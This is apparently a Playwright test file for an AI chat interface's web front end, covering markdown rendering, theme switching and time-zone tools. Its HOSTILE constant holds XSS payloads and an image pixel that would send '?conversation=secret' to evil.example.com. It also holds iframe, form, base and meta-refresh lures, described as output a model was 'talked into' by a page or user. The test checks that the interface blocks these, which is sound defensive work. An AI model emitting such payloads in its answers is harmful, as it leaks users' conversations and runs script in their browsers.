import assert from 'node:assert/strict'
import type { Locator } from 'playwright-core'
import { pageTest } from '../support/browser.ts'
import { scripted, sayWhole } from '../support/scripted-application.ts'
import { ChatPage } from './chat-page.ts'

const MARKDOWN = `# A heading

Words in **bold** and *italic*, \`code\`, and [a link](https://example.com/page).

- one
- two

| Place | Time |
| --- | --- |
| Oslo | 12:00 |

\`\`\`ts
const answer = 42
\`\`\`

> A quotation`

// What a model may have been talked into, by a page that it read or by its user.
const HOSTILE = `<script>window.stolen = 'script'</script>

<img src=x onerror="window.stolen = 'onerror'"> <svg onload="window.stolen = 'onload'">

[click me](javascript:window.stolen='link') [and me](data:text/html,<script>alert(1)</script>)

![a picture](https://evil.example.com/pixel.png?conversation=secret)

<iframe src="https://evil.example.com/frame"></iframe><style>body { display: none }</style>

<a href="https://evil.example.com" onclick="window.stolen = 'onclick'">raw</a>

<form action="https://evil.example.com"><input name="password"><button>Go</button></form>

<base href="https://evil.example.com/"><meta http-equiv="refresh" content="0;url=https://evil.example.com/">

\`\`\`html
<script>window.stolen = 'code'</script>
\`\`\`

The end.`

pageTest('an answer in markdown is drawn as what it means', {
  replacements: { application: scripted((chat) => sayWhole(chat, MARKDOWN)) },
  body: async ({ open }) => {
    const chat = new ChatPage(await open())
    await chat.say('Show me')
    const answer = chat.answers.first()
    await answer.getByRole('heading', { name: 'A heading' }).waitFor()
    assert.equal(await answer.locator('strong').innerText(), 'bold')
    assert.deepEqual(await answer.getByRole('listitem').allInnerTexts(), ['one', 'two'])
    assert.equal(await answer.getByRole('cell', { name: '12:00' }).count(), 1)
    assert.equal(await answer.locator('pre').innerText(), 'const answer = 42')
    const link = answer.getByRole('link', { name: 'a link' })
    assert.equal(await link.getAttribute('href'), 'https://example.com/page')
    assert.equal(await link.getAttribute('rel'), 'noopener noreferrer')
    assert.equal(await answer.locator('blockquote').innerText(), 'A quotation')
  },
})

// The test also fails on any request to another host and on any violation of the page's policy:
// what is hostile must not even get that far.
pageTest('a hostile answer runs nothing, loads nothing and leads nowhere', {
  replacements: { application: scripted((chat) => sayWhole(chat, HOSTILE)) },
  body: async ({ open }) => {
    const page = await open()
    const chat = new ChatPage(page)
    const text = await chat.say('Be evil')
    assert.match(text, /The end\.$/m)
    assert.match(text, /<script>window\.stolen = 'script'<\/script>/, 'HTML is shown, not run')
    const answer = chat.answers.first()
    const forbidden =
      'script, iframe, svg[onload], style, form, base, meta, img, [onclick], [onerror]'
    assert.equal(await answer.locator(':scope .prose').locator(forbidden).count(), 0)
    for (const href of await hrefs(answer.getByRole('link'))) assert.match(href, /^https:/)
    await answer.getByText('click me').click()
    await page.evaluate('new Promise((resolve) => requestAnimationFrame(resolve))')
    assert.equal(await page.evaluate('window.stolen'), undefined)
    assert.equal(new URL(page.url()).pathname, '/')
  },
})

pageTest('the agent switches the theme and learns the time zone of the browser', {
  body: async ({ open }) => {
    const page = await open({ timezoneId: 'Asia/Kathmandu', colorScheme: 'light' })
    const chat = new ChatPage(page)
    const scheme = () => page.evaluate('getComputedStyle(document.documentElement).colorScheme')
    assert.equal(await scheme(), 'light dark')
    const said = await chat.say('Switch to the dark theme')
    assert.match(said, /switch_theme has done its work: dark/)
    assert.equal(await scheme(), 'dark')
    await chat.button('Theme: dark').waitFor()
    await page.reload()
    await chat.answers.waitFor()
    assert.equal(await scheme(), 'dark', 'it is remembered')

    await chat.say('What is my time zone?')
    assert.match(await chat.answers.last().innerText(), /Time zone: Asia\/Kat(h)?mandu/)
  },
})

pageTest('a question for the time elsewhere is answered with a card and in a few lines', {
  body: async ({ open }) => {
    const chat = new ChatPage(await open())
    const said = await chat.say('What time is it in Asia/Tokyo and Europe/Paris?')
    assert.match(said, /World clock/)
    assert.equal(await chat.answers.locator('.widget').count(), 1)
    assert.deepEqual(await chat.answers.getByRole('columnheader').allInnerTexts(), [
      'Place',
      'Time',
      'Day',
    ])
    assert.equal(await chat.answers.getByRole('row').count(), 3)
    assert.doesNotMatch(said, /browser_time_zone|Center/)
  },
})

async function hrefs(links: Locator): Promise<string[]> {
  const all = await links.all()
  return await Promise.all(all.map(async (link) => (await link.getAttribute('href')) ?? ''))
}
